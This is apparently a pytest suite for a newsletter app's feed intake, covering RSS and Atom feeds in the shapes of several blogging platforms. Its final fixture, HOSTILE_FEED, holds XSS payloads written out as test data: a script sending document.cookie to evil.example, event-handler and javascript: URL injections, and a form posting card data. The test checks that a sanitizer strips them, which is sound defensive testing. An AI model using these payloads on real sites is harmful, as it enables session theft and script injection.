"""Feeds in the shapes real blog platforms publish, served over loopback HTTP and stored."""

from __future__ import annotations

import datetime as dt
import hashlib
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path

import pytest
from werkzeug import Response

from clocks import FETCH_NOW as NOW
from newsletter.config import SourceSpec
from newsletter.errors import SourceError
from newsletter.sources import feed, intake
from newsletter.sources.http import Fetcher
from newsletter.store import Store


class Intake:
    """Serve a feed body on the loopback server and run it through the whole intake."""

    def __init__(self, server, store: Store, fetcher: Fetcher, root: Path):
        self.server, self.store, self.fetcher, self.root = server, store, fetcher, root

    @property
    def base(self) -> str:
        return self.server.url_for("").rstrip("/")

    def __call__(
        self,
        body: str | bytes,
        *,
        path: str = "/feed.xml",
        content_type: str = "application/rss+xml; charset=utf-8",
        **options,
    ) -> tuple[intake.SourceResult, dict[str, dict]]:
        data = body.replace("{base}", self.base) if isinstance(body, str) else body
        self.server.expect_request(path).respond_with_data(data, content_type=content_type)
        options.setdefault("backfill", None)
        spec = SourceSpec("feed", self.server.url_for(path), **options)
        result = intake.run_source(spec, self.store, self.fetcher, NOW, root=self.root)
        return result, {a["title"]: a for a in self.store.articles()}


@pytest.fixture
def run(httpserver_ipv4, store, fetcher, tmp_path) -> Intake:
    return Intake(httpserver_ipv4, store, fetcher, tmp_path)


class Elements(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


# -- Wix ----------------------------------------------------------------------------

WIX_FEED = """<?xml version="1.0" encoding="UTF-8"?><rss \
xmlns:dc="http://purl.org/dc/elements/1.1/" \
xmlns:content="http://purl.org/rss/1.0/modules/content/" \
xmlns:atom="http://www.w3.org/2005/Atom" \
version="2.0"><channel><title><![CDATA[Blog | Riverbend Physical Therapy]]></title>\
<description><![CDATA[Blog | Riverbend Physical Therapy]]></description>\
<link>{base}/blog</link><generator>RSS for Node</generator>\
<lastBuildDate>Thu, 26 Nov 2026 17:02:11 GMT</lastBuildDate>\
<atom:link href="{base}/blog-feed.xml" rel="self" type="application/rss+xml"/>
<item><title><![CDATA[Hip Pain on the Stairs? Start Here]]></title>\
<description><![CDATA[Do stairs ask more of your hips than they used to? A few checks you can \
do at home, and two exercises that help most people.]]></description>\
<link>{base}/post/hip-pain-on-the-stairs</link>\
<guid isPermaLink="false">6750a1c2e4b0f3001a2b3c4d</guid>\
<category><![CDATA[Hip Pain]]></category><category><![CDATA[Exercise]]></category>\
<category><![CDATA[All Posts]]></category><pubDate>Wed, 25 Nov 2026 15:30:00 GMT</pubDate>\
<enclosure url="https://static.wixstatic.com/media/5a1b2c_hip~mv2.jpg/v1/fit/w_1000,h_667,\
al_c,q_80/file.png" length="0" type="image/png"/><dc:creator>Dana Whitfield</dc:creator></item>
<item><title><![CDATA[Ice or Heat After a Sprain?]]></title>\
<description><![CDATA[The short answer depends on the day. Here is how to choose.]]>\
</description><link>{base}/post/ice-or-heat</link>\
<guid isPermaLink="false">6741f0aa9c1d2e0012ab34cd</guid>\
<category><![CDATA[Injury Recovery]]></category><category><![CDATA[All Posts]]></category>\
<pubDate>Tue, 10 Nov 2026 09:00:00 GMT</pubDate>\
<enclosure url="https://static.wixstatic.com/media/5a1b2c_ice~mv2.png/v1/fill/w_980/file.png" \
length="0" type="image/png"/><dc:creator>Marcus Oyelaran</dc:creator></item>
<item><title><![CDATA[Welcome to Our New Blog]]></title>\
<description><![CDATA[We are starting a blog. Here is what to expect.]]></description>\
<link>{base}/post/welcome</link><guid isPermaLink="false">5f0e9d8c7b6a5f0012345678</guid>\
<category><![CDATA[Clinic News]]></category><pubDate>Mon, 02 Mar 2026 12:00:00 GMT</pubDate>\
<dc:creator>Priya Nandakumar</dc:creator></item>
</channel></rss>"""

WIX_PAGE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
<title>Hip Pain on the Stairs? Start Here</title>
<link rel="canonical" href="{base}/post/hip-pain-on-the-stairs">
<meta property="og:type" content="article">
<meta property="og:title" content="Hip Pain on the Stairs? Start Here">
</head><body><div id="SITE_CONTAINER"><a href="#main">top of page</a>
<header><a href="/">Home</a> <a href="/blog">Blog</a> <a href="/book">Book</a></header>
<main id="main"><article>
<h1>Hip Pain on the Stairs? Start Here</h1>
<p>Stairs are one of the first places hip trouble shows itself. Each step asks the hip to
carry your whole weight while it bends, and a stiff or weak hip lets you know about it.</p>
<h2>Three checks at home</h2>
<ol><li>Can you stand on one leg for thirty seconds without holding on?</li>
<li>Does the pain start on the way up, the way down, or both?</li>
<li>Is it worse first thing in the morning or at the end of the day?</li></ol>
<p>Write your answers down and bring them to your first appointment; they save time.</p>
<p>See our <a href="/services/hips">hip care page</a> for more.</p>
</article>
<div class="post-footer"><span>27 views</span><span>3 comments</span></div>
</main><footer>bottom of page</footer></div></body></html>"""


def test_wix_feed_with_full_text_from_each_new_article_page(run, httpserver_ipv4):
    httpserver_ipv4.expect_request("/post/hip-pain-on-the-stairs").respond_with_data(
        WIX_PAGE.replace("{base}", run.base), content_type="text/html; charset=utf-8"
    )
    httpserver_ipv4.expect_request("/post/ice-or-heat").respond_with_data(
        "<html><body><article><h1>Ice or Heat After a Sprain?</h1><p>Use ice in the first "
        "two days to calm swelling, then gentle heat to ease stiffness as you move more."
        "</p></article><p>5 views</p></body></html>",
        content_type="text/html",
    )
    result, articles = run(WIX_FEED, path="/blog-feed.xml", full_text=True, backfill=2)

    assert result.errors == [] and result.warnings == []
    assert result.counts == {"new": 2, "updated": 0, "unchanged": 0, "archived": 1}
    hip = articles["Hip Pain on the Stairs? Start Here"]
    # Identity: the 24-hex guid, which is not a permalink; the link is the article URL.
    assert hip["key"] == "6750a1c2e4b0f3001a2b3c4d"
    assert hip["url"] == f"{run.base}/post/hip-pain-on-the-stairs"
    assert hip["author"] == "Dana Whitfield"
    assert hip["tags"] == ["Hip Pain", "Exercise", "All Posts"]
    assert hip["published"] == "2026-11-25T15:30:00+00:00"
    # The enclosure says image/png for a .jpg file; it is the lead image all the same.
    assert hip["image"].startswith("https://static.wixstatic.com/media/5a1b2c_hip~mv2.jpg/")
    # The feed's excerpt stays the summary; the page gives the whole body.
    assert hip["summary"].startswith("Do stairs ask more of your hips")
    assert "<h2>Three checks at home</h2>" in hip["body_html"]
    assert hip["body_html"].count("<li>") == 3 and "<ol>" in hip["body_html"]
    assert f'href="{run.base}/services/hips"' in hip["body_html"]
    assert "top of page" not in hip["body_html"] and "27 views" not in hip["body_html"]
    assert (hip["views"], hip["comments"]) == (27, 3)
    assert articles["Ice or Heat After a Sprain?"]["views"] == 5
    # The archived back-catalogue item keeps its excerpt; its page was never requested.
    welcome = articles["Welcome to Our New Blog"]
    assert welcome["is_new"] == 0 and welcome["body_html"] == (
        "<p>We are starting a blog. Here is what to expect.</p>"
    )
    requested = [request.path for request, _ in httpserver_ipv4.log]
    assert "/post/welcome" not in requested


def test_wix_full_text_pages_are_not_fetched_again_for_unchanged_items(
    httpserver_ipv4, store, fetcher, tmp_path
):
    base = httpserver_ipv4.url_for("").rstrip("/")
    served = {"feed": WIX_FEED.replace("{base}", base)}
    httpserver_ipv4.expect_request("/blog-feed.xml").respond_with_handler(
        lambda request: Response(served["feed"], content_type="application/rss+xml")
    )
    httpserver_ipv4.expect_request("/post/hip-pain-on-the-stairs").respond_with_data(
        WIX_PAGE.replace("{base}", base), content_type="text/html"
    )
    httpserver_ipv4.expect_request("/post/ice-or-heat").respond_with_data(
        "<html><body><h1>Ice or Heat</h1><p>Body text of the article, long enough.</p>"
        "</body></html>",
        content_type="text/html",
    )
    spec = SourceSpec("feed", httpserver_ipv4.url_for("/blog-feed.xml"), full_text=True, backfill=2)

    def pages_fetched() -> int:
        return sum(1 for r, _ in httpserver_ipv4.log if r.path.startswith("/post/"))

    first = intake.run_source(spec, store, fetcher, NOW, root=tmp_path)
    assert first.counts["new"] == 2 and pages_fetched() == 2
    # The same items again, with a new lastBuildDate so the body differs.
    served["feed"] = served["feed"].replace("17:02:11", "18:00:00")
    later = NOW + dt.timedelta(minutes=5)
    second = intake.run_source(spec, store, fetcher, later, root=tmp_path)
    assert not second.not_modified
    assert second.counts == {"new": 0, "updated": 0, "unchanged": 3, "archived": 0}
    assert pages_fetched() == 2
    hip = next(a for a in store.articles() if a["key"] == "6750a1c2e4b0f3001a2b3c4d")
    assert "<ol>" in hip["body_html"]
    # An edited excerpt means the article changed: its page is read again.
    served["feed"] = served["feed"].replace("A few checks you can", "Some checks you can")
    third = intake.run_source(spec, store, fetcher, later, root=tmp_path)
    assert third.counts == {"new": 0, "updated": 1, "unchanged": 2, "archived": 0}
    assert pages_fetched() == 3


class WixBlog:
    """The Wix feed with an ETag, and article pages a test can break and mend between polls."""

    ICE_PAGE = (
        "<html><body><h1>Ice</h1><p>Long enough body text for the extractor here.</p></body></html>"
    )

    def __init__(self, server):
        self.base = server.url_for("").rstrip("/")
        self.feed = WIX_FEED.replace("{base}", self.base)
        self.broken: set[str] = set()
        self.feed_requests: list = []
        server.expect_request("/blog-feed.xml").respond_with_handler(self.serve_feed)
        for path in ("/post/hip-pain-on-the-stairs", "/post/ice-or-heat"):
            server.expect_request(path).respond_with_handler(self.serve_page)
        self.spec = SourceSpec("feed", server.url_for("/blog-feed.xml"), full_text=True, backfill=2)

    def serve_feed(self, request) -> Response:
        self.feed_requests.append(request)
        etag = '"' + hashlib.sha256(self.feed.encode()).hexdigest()[:16] + '"'
        if request.headers.get("If-None-Match") == etag:
            return Response(status=304, headers={"ETag": etag})
        return Response(self.feed, headers={"ETag": etag}, content_type="application/rss+xml")

    def serve_page(self, request) -> Response:
        if request.path in self.broken:
            return Response("gone", status=404)
        if request.path == "/post/ice-or-heat":
            return Response(self.ICE_PAGE, content_type="text/html")
        return Response(WIX_PAGE.replace("{base}", self.base), content_type="text/html")


def test_a_full_text_page_that_fails_keeps_the_excerpt_and_is_retried(
    httpserver_ipv4, store, fetcher, tmp_path
):
    blog = WixBlog(httpserver_ipv4)
    blog.broken = {"/post/hip-pain-on-the-stairs"}

    def hip() -> dict:
        return next(a for a in store.articles() if a["key"] == "6750a1c2e4b0f3001a2b3c4d")

    first = intake.run_source(blog.spec, store, fetcher, NOW, root=tmp_path)
    assert first.errors == []
    [warning] = first.warnings
    assert warning.startswith(f"{blog.base}/post/hip-pain-on-the-stairs: HTTP 404")
    assert "kept the feed's excerpt" in warning
    assert hip()["body_html"].startswith("<p>Do stairs ask more of your hips")

    # The page is back. The feed itself has not changed, but its validators
    # were not kept, so the next poll reads it and asks for the page again.
    blog.broken = set()
    later = NOW + dt.timedelta(minutes=5)
    second = intake.run_source(blog.spec, store, fetcher, later, root=tmp_path)
    assert second.errors == [] and second.warnings == []
    assert "If-None-Match" not in blog.feed_requests[-1].headers
    assert second.counts == {"new": 0, "updated": 1, "unchanged": 2, "archived": 0}
    assert "<h2>Three checks at home</h2>" in hip()["body_html"]
    assert (hip()["views"], hip()["comments"]) == (27, 3)

    # Everything read: now the feed is asked for conditionally again.
    third = intake.run_source(blog.spec, store, fetcher, later, root=tmp_path)
    assert third.not_modified and blog.feed_requests[-1].headers["If-None-Match"]


def test_a_known_article_keeps_its_full_body_when_its_page_fails(
    httpserver_ipv4, store, fetcher, tmp_path
):
    blog = WixBlog(httpserver_ipv4)
    intake.run_source(blog.spec, store, fetcher, NOW, root=tmp_path)

    def hip() -> dict:
        return next(a for a in store.articles() if a["key"] == "6750a1c2e4b0f3001a2b3c4d")

    stored = hip()
    assert "<ol>" in stored["body_html"]

    # The excerpt is edited, so the page is asked for again, and it fails.
    blog.feed = blog.feed.replace("A few checks you can", "Some checks you can")
    blog.broken = {"/post/hip-pain-on-the-stairs"}
    later = NOW + dt.timedelta(minutes=5)
    failed = intake.run_source(blog.spec, store, fetcher, later, root=tmp_path)
    [warning] = failed.warnings
    assert "kept the article as stored" in warning
    assert hip()["body_html"] == stored["body_html"]
    assert hip()["summary"] == stored["summary"]

    # Once the page answers, the edit comes in with the full body.
    blog.broken = set()
    mended = intake.run_source(blog.spec, store, fetcher, later, root=tmp_path)
    assert mended.counts["updated"] == 1 and mended.warnings == []
    assert "Some checks you can do at home" in hip()["summary"]
    assert "<ol>" in hip()["body_html"]


# -- WordPress, Ghost, Substack, Blogger ---------------------------------------------

WORDPRESS_FEED = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
 xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:wfw="http://wellformedweb.org/CommentAPI/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:atom="http://www.w3.org/2005/Atom"
 xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"
 xmlns:slash="http://purl.org/rss/1.0/modules/slash/">
<channel>
 <title>Lakeside Physio</title>
 <atom:link href="{base}/feed/" rel="self" type="application/rss+xml" />
 <link>{base}</link>
 <description>Notes from the treatment room</description>
 <lastBuildDate>Thu, 26 Nov 2026 08:12:40 +0000</lastBuildDate>
 <language>en-US</language>
 <sy:updatePeriod>hourly</sy:updatePeriod>
 <generator>https://wordpress.org/?v=6.7</generator>
 <item>
  <title>Five Desk Stretches You Can Do in a Meeting</title>
  <link>{base}/2026/11/desk-stretches/</link>
  <comments>{base}/2026/11/desk-stretches/#respond</comments>
  <dc:creator><![CDATA[Sam Okafor]]></dc:creator>
  <pubDate>Mon, 23 Nov 2026 14:00:00 +0000</pubDate>
  <category><![CDATA[Posture]]></category>
  <category><![CDATA[Work]]></category>
  <guid isPermaLink="false">{base}/?p=412</guid>
  <description><![CDATA[Nobody will notice these. Your neck will. [&#8230;]]]></description>
  <content:encoded><![CDATA[<p>Nobody will notice these. Your neck will.</p>
<h2>The list</h2>
<ol class="wp-block-list"><li>Chin tucks</li><li>Shoulder rolls</li><li>Seated twist</li></ol>
<figure class="wp-block-image"><img decoding="async"
 src="{base}/wp-content/uploads/2026/11/desk.jpg" alt="A desk by a window" /></figure>
]]></content:encoded>
  <wfw:commentRss>{base}/2026/11/desk-stretches/feed/</wfw:commentRss>
  <slash:comments>4</slash:comments>
 </item>
</channel>
</rss>"""


def test_wordpress_rss_with_content_encoded(run):
    result, articles = run(WORDPRESS_FEED)
    assert result.errors == [] and result.counts["new"] == 1
    post = articles["Five Desk Stretches You Can Do in a Meeting"]
    assert post["key"] == f"{run.base}/?p=412"
    assert post["url"] == f"{run.base}/2026/11/desk-stretches/"
    assert post["author"] == "Sam Okafor"
    assert post["tags"] == ["Posture", "Work"]
    assert "<h2>The list</h2>" in post["body_html"]
    assert "<li>Chin tucks</li>" in post["body_html"]
    assert "class=" not in post["body_html"]
    assert post["summary"] == "Nobody will notice these. Your neck will. […]"
    assert post["image"] == f"{run.base}/wp-content/uploads/2026/11/desk.jpg"
    assert post["image_alt"] == "A desk by a window"
    assert post["comments"] == 4


GHOST_FEED = """<?xml version="1.0" encoding="UTF-8"?><rss \
xmlns:dc="http://purl.org/dc/elements/1.1/" \
xmlns:content="http://purl.org/rss/1.0/modules/content/" \
xmlns:atom="http://www.w3.org/2005/Atom" \
version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title><![CDATA[Move Well]]>\
</title><description><![CDATA[Thoughts on moving well]]></description><link>{base}/</link>\
<generator>Ghost 5.101</generator><lastBuildDate>Thu, 26 Nov 2026 10:00:00 GMT</lastBuildDate>\
<atom:link href="{base}/rss/" rel="self" type="application/rss+xml"/><ttl>60</ttl>\
<item><title><![CDATA[Walking Is Underrated]]></title><description><![CDATA[Why a daily walk \
does more for your back than you think.]]></description><link>{base}/walking-is-underrated/</link>\
<guid isPermaLink="false">6745b2f1c3d4e50001a1b2c3</guid><category><![CDATA[Back Pain]]></category>\
<dc:creator><![CDATA[Lena Park]]></dc:creator><pubDate>Thu, 26 Nov 2026 07:45:00 GMT</pubDate>\
<media:content url="{base}/content/images/2026/11/walk.jpg" medium="image"/>\
<content:encoded><![CDATA[<img src="{base}/content/images/2026/11/walk.jpg" alt="A path">\
<p>Walking loads the spine gently and often.</p><blockquote>Motion is lotion.</blockquote>\
]]></content:encoded></item></channel></rss>"""


def test_ghost_rss_with_media_content(run):
    result, articles = run(GHOST_FEED, path="/rss/")
    post = articles["Walking Is Underrated"]
    assert result.errors == []
    assert post["key"] == "6745b2f1c3d4e50001a1b2c3"
    assert post["author"] == "Lena Park"
    assert post["image"] == f"{run.base}/content/images/2026/11/walk.jpg"
    assert "<blockquote>Motion is lotion.</blockquote>" in post["body_html"]
    assert post["summary"] == "Why a daily walk does more for your back than you think."


SUBSTACK_FEED = """<?xml version="1.0" encoding="UTF-8"?><rss \
xmlns:dc="http://purl.org/dc/elements/1.1/" \
xmlns:content="http://purl.org/rss/1.0/modules/content/" \
xmlns:atom="http://www.w3.org/2005/Atom" \
version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" \
xmlns:googleplay="http://www.google.com/schemas/play-podcasts/1.0"><channel>\
<title><![CDATA[The Recovery Letter]]></title><description><![CDATA[Weekly notes]]></description>\
<link>{base}</link><generator>Substack</generator>\
<lastBuildDate>Thu, 26 Nov 2026 12:00:00 GMT</lastBuildDate>\
<atom:link href="{base}/feed" rel="self" type="application/rss+xml"/>\
<copyright><![CDATA[Jo Rivera]]></copyright><language><![CDATA[en]]></language>\
<item><title><![CDATA[Sleep Is Training Too]]></title><description><![CDATA[What rest \
does for sore muscles]]></description><link>{base}/p/sleep-is-training-too</link>\
<guid isPermaLink="false">{base}/p/sleep-is-training-too</guid>\
<dc:creator><![CDATA[Jo Rivera]]></dc:creator><pubDate>Wed, 25 Nov 2026 11:02:03 GMT</pubDate>\
<enclosure url="https://substackcdn.com/image/fetch/w_1456,c_limit,f_auto/sleep.jpeg" length="0" \
type="image/jpeg"/><content:encoded><![CDATA[<p>Most repair happens while you sleep.</p>\
<div class="subscription-widget-wrap"><form><input type="email"></form></div>\
<p><a href="{base}/subscribe?utm_source=post">Subscribe</a></p>]]></content:encoded></item>\
</channel></rss>"""


def test_substack_rss(run):
    result, articles = run(SUBSTACK_FEED, path="/feed")
    post = articles["Sleep Is Training Too"]
    assert result.errors == []
    assert post["key"] == f"{run.base}/p/sleep-is-training-too"
    assert post["image"] == "https://substackcdn.com/image/fetch/w_1456,c_limit,f_auto/sleep.jpeg"
    assert post["summary"] == "What rest does for sore muscles"
    assert "<form" not in post["body_html"] and "<input" not in post["body_html"]
    assert "Most repair happens while you sleep." in post["body_html"]


BLOGGER_FEED = """<?xml version='1.0' encoding='UTF-8'?><?xml-stylesheet \
href="http://www.blogger.com/styles/atom.css" type="text/css"?>\
<feed xmlns='http://www.w3.org/2005/Atom' \
xmlns:openSearch='http://a9.com/-/spec/opensearchrss/1.0/' \
xmlns:blogger='http://schemas.google.com/blogger/2008' xmlns:georss='http://www.georss.org/georss' \
xmlns:gd="http://schemas.google.com/g/2005" xmlns:thr='http://purl.org/syndication/thread/1.0'>\
<id>tag:blogger.com,1999:blog-4411223344</id><updated>2026-11-26T09:00:00.000-08:00</updated>\
<title type='text'>Knee Notes</title><link rel='alternate' type='text/html' href='{base}/'/>\
<author><name>Ravi Menon</name></author><generator version='7.00' uri='http://www.blogger.com'>Blogger</generator>\
<entry><id>tag:blogger.com,1999:blog-4411223344.post-998877</id>\
<published>2026-11-24T08:30:00.000-08:00</published><updated>2026-11-25T10:00:00.000-08:00</updated>\
<category scheme='http://www.blogger.com/atom/ns#' term='knees'/>\
<category scheme='http://www.blogger.com/atom/ns#' term='running'/>\
<title type='text'>Why Knees Click</title>\
<content type='html'>&lt;p&gt;Most clicking is harmless gas in the joint.&lt;/p&gt;&lt;img \
src="https://blogger.googleusercontent.com/img/b/knee.png" /&gt;</content>\
<link rel='replies' type='text/html' \
href='{base}/2026/11/why-knees-click.html#comment-form' title='2 Comments'/>\
<link rel='alternate' type='text/html' href='{base}/2026/11/why-knees-click.html' \
title='Why Knees Click'/><author><name>Ravi Menon</name></author>\
<media:thumbnail xmlns:media='http://search.yahoo.com/mrss/' \
url='https://blogger.googleusercontent.com/img/b/s72-c/knee.png' height='72' width='72'/>\
<thr:total>2</thr:total></entry></feed>"""


def test_blogger_atom(run):
    result, articles = run(BLOGGER_FEED, content_type="application/atom+xml")
    post = articles["Why Knees Click"]
    assert result.errors == []
    assert post["key"] == "tag:blogger.com,1999:blog-4411223344.post-998877"
    assert post["url"] == f"{run.base}/2026/11/why-knees-click.html"
    assert post["published"] == "2026-11-24T16:30:00+00:00"
    assert post["updated"] == "2026-11-25T18:00:00+00:00"
    assert post["tags"] == ["knees", "running"]
    assert post["author"] == "Ravi Menon"
    assert post["comments"] == 2
    assert post["image"] == "https://blogger.googleusercontent.com/img/b/s72-c/knee.png"


ATOM_XHTML_FEED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{base}/notes/">
  <title>Strength Notes</title>
  <link href="{base}/notes/"/>
  <updated>2026-11-26T12:00:00Z</updated>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <entry>
    <title type="html">Squats &amp;amp; Your Knees</title>
    <link href="squats-and-knees"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2026-11-26T11:00:00Z</updated>
    <author><name>Ana Costa</name></author>
    <summary type="text">Deep squats are not bad for healthy knees.</summary>
    <content type="xhtml">
      <div xmlns="http://www.w3.org/1999/xhtml">
        <p>Load builds tissue. <a href="../guides/squat">See the guide</a>.</p>
        <ul><li>Start light</li><li>Go slow</li></ul>
        <img src="images/squat.png" alt="A squat"/>
      </div>
    </content>
  </entry>
</feed>"""


def test_atom_with_xhtml_content_and_relative_links(run):
    result, articles = run(ATOM_XHTML_FEED, content_type="application/atom+xml")
    post = articles["Squats & Your Knees"]
    assert result.errors == []
    assert post["url"] == f"{run.base}/notes/squats-and-knees"
    assert post["published"] == "2026-11-26T11:00:00+00:00"
    assert (
        f'<a href="{run.base}/guides/squat" rel="noopener">See the guide</a>' in (post["body_html"])
    )
    assert "<li>Start light</li>" in post["body_html"]
    assert post["image"] == f"{run.base}/notes/images/squat.png"
    assert post["summary"] == "Deep squats are not bad for healthy knees."


RSS1_FEED = """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
  xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="{base}/">
    <title>Old School Rehab</title><link>{base}/</link><description>RDF since 2003</description>
    <items><rdf:Seq>
      <rdf:li resource="{base}/ankle.html"/><rdf:li resource="{base}/wrist.html"/>
    </rdf:Seq></items>
  </channel>
  <item rdf:about="{base}/ankle.html">
    <title>Ankle Circles</title><link>{base}/ankle.html</link>
    <description>Small circles, both directions, twice a day.</description>
    <dc:date>2026-11-20T09:00:00Z</dc:date><dc:creator>Mo Haddad</dc:creator>
    <dc:subject>ankle</dc:subject>
  </item>
  <item rdf:about="{base}/wrist.html">
    <title>Wrist Rests</title><link>{base}/wrist.html</link>
    <description>Typing with bent wrists all day adds up.</description>
    <dc:date>2026-11-18T09:00:00Z</dc:date>
  </item>
</rdf:RDF>"""


def test_rss_1_0(run):
    result, articles = run(RSS1_FEED, content_type="application/rdf+xml")
    assert result.errors == [] and result.counts["new"] == 2
    ankle = articles["Ankle Circles"]
    assert ankle["key"] == f"{run.base}/ankle.html"
    assert ankle["published"] == "2026-11-20T09:00:00+00:00"
    assert ankle["author"] == "Mo Haddad"
    assert ankle["body_html"] == "<p>Small circles, both directions, twice a day.</p>"
    assert ankle["tags"] == ["ankle"]
    assert articles["Wrist Rests"]["key"] == f"{run.base}/wrist.html"


# -- identity -----------------------------------------------------------------------

NO_GUID_FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>Plain</title>
<link>{base}/</link><description>d</description>
<item><title>With a Link</title><link>{base}/with-a-link?utm_source=rss&amp;utm_medium=feed</link>
<description>Only a link identifies me.</description></item>
<item><title>Neither Guid nor Link</title><description>A note with no address.</description></item>
</channel></rss>"""


def test_items_without_guid_are_keyed_by_url_then_by_content(run, store, fetcher, tmp_path):
    result, articles = run(NO_GUID_FEED)
    assert result.counts["new"] == 2
    linked = articles["With a Link"]
    # Click-tracking parameters are not part of the identity or the stored link.
    assert linked["key"] == linked["url"] == f"{run.base}/with-a-link"
    hashed = articles["Neither Guid nor Link"]
    assert hashed["key"].startswith("sha256:") and hashed["url"] is None
    # Read again: the same two articles, nothing new.
    spec = SourceSpec("feed", run.server.url_for("/feed.xml"), backfill=None)
    again = intake.run_source(spec, store, fetcher, NOW, root=tmp_path)
    assert again.not_modified
    assert len(store.articles()) == 2


DUPLICATE_GUIDS_FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>Dupes</title>
<link>{base}/</link><description>d</description>
<item><title>First Post</title><link>{base}/first</link><guid>{base}/</guid></item>
<item><title>Second Post</title><link>{base}/second</link><guid>{base}/</guid></item>
<item><title>Said Twice</title><link>{base}/twice</link>
  <guid isPermaLink="false">twice-1</guid></item>
<item><title>Said Twice</title><link>{base}/twice</link>
  <guid isPermaLink="false">twice-1</guid></item>
</channel></rss>"""


def test_duplicate_guids(run):
    result, articles = run(DUPLICATE_GUIDS_FEED)
    # A guid shared by different links is not trusted: those items fall back to their links.
    assert articles["First Post"]["key"] == f"{run.base}/first"
    assert articles["Second Post"]["key"] == f"{run.base}/second"
    # The same item twice is one article, and the repeat is reported.
    assert articles["Said Twice"]["key"] == "twice-1"
    assert len(articles) == 3 and result.counts["new"] == 3
    assert any("2 items share the identity 'twice-1'" in w for w in result.warnings)


RELATIVE_FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>Rel</title>
<link>/</link><description>d</description>
<item><title>Relative Everything</title><link>/blog/relative-everything</link>
<guid isPermaLink="false">rel-1</guid>
<description><![CDATA[<p><a href="../about">About us</a> <a href="other-post">next</a>
<img src="/media/photo.jpg" alt="photo"> <a href="//cdn.example.com/file.pdf">pdf</a></p>]]>
</description>
</item></channel></rss>"""


def test_relative_links_are_made_absolute(run):
    result, articles = run(RELATIVE_FEED, path="/feeds/main.xml")
    post = articles["Relative Everything"]
    assert post["url"] == f"{run.base}/blog/relative-everything"
    body = Elements(post["body_html"]).found
    hrefs = [attrs["href"] for tag, attrs in body if tag == "a"]
    # Relative to the feed's own address, as feedparser resolves a description's links.
    assert hrefs == [
        f"{run.base}/about",
        f"{run.base}/feeds/other-post",
        "http://cdn.example.com/file.pdf",
    ]
    assert ("img", {"src": f"{run.base}/media/photo.jpg", "alt": "photo"}) in body


LATIN1_FEED = """<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel>
<title>Clínica São Bento</title><link>{base}/</link><description>Fisioterapia</description>
<item><title>Dor nas costas: o que é normal</title><link>{base}/dor-nas-costas</link>
<guid>sb-1</guid><description>Não é só postura. Açúcar, stress e sono também contam.</description>
<category>Coluna</category></item></channel></rss>"""


def test_a_non_utf8_feed_is_decoded_by_its_declared_encoding(run):
    body = LATIN1_FEED.replace("{base}", run.base).encode("iso-8859-1")
    result, articles = run(body, content_type="application/rss+xml")
    post = articles["Dor nas costas: o que é normal"]
    assert result.errors == []
    assert post["summary"] == "Não é só postura. Açúcar, stress e sono também contam."


WINDOWS_1252_FEED = (
    b'<?xml version="1.0" encoding="windows-1252"?><rss version="2.0"><channel><title>W</title>'
    b"<link>http://w.example/</link><description>d</description><item><title>\x93Quoted\x94 "
    b"\x96 Dashes</title><link>http://w.example/q</link></item></channel></rss>"
)


def test_text_titles_and_rss_author_addresses():
    body = (
        b'<rss version="2.0"><channel><title>t</title><item><title>I &lt;3 knees &gt; hips'
        b"</title><author>dana@clinic.example (Dana Whitfield)</author>"
        b"<link>http://x.example/a</link></item></channel></rss>"
    )
    [article] = feed.parse(body, "http://x.example/feed").articles
    assert article["title"] == "I <3 knees > hips"
    assert article["author"] == "Dana Whitfield"


def test_windows_1252_punctuation():
    parsed = feed.parse(WINDOWS_1252_FEED, "http://w.example/feed")
    assert parsed.articles[0]["title"] == "\u201cQuoted\u201d \u2013 Dashes"


HOSTILE_FEED = """<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile</title>
<link>{base}/</link><description>d</description>
<item><title>Totally Normal Post &lt;script&gt;alert(1)&lt;/script&gt;</title>
<link>{base}/normal</link><guid>h-1</guid>
<description><![CDATA[<p onclick="steal()">Read this.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x.png" onerror="alert('img')">
<a href="javascript:alert('href')">click</a>
<a href=" JaVaScRiPt:alert('spaced')">spaced</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<iframe src="https://evil.example/frame"></iframe>
<style>body{display:none}</style>
<svg onload="alert('svg')"><circle r="1"/></svg>
<form action="https://evil.example/"><input name="card"></form>
<blockquote cite="javascript:alert('cite')">quoted</blockquote>
<q cite=" JaVaScRiPt:alert('q')">short</q><del cite="data:text/html,x">gone</del>
<ins cite="/why-changed">added</ins>
<a href="https://fine.example/">fine</a>]]></description></item></channel></rss>"""


def test_hostile_html_is_sanitized_before_it_is_stored(run):
    result, articles = run(HOSTILE_FEED)
    [post] = articles.values()
    # An RSS title is text: what looks like a tag in it is kept as characters,
    # which every template escapes, never as markup.
    assert post["title"] == "Totally Normal Post <script>alert(1)</script>"
    body = post["body_html"]
    elements = Elements(body).found
    tags = {tag for tag, _ in elements}
    assert not tags & {"script", "iframe", "style", "svg", "form", "input"}
    for tag, attrs in elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert not (value or "").strip().lower().startswith(("javascript:", "data:"))
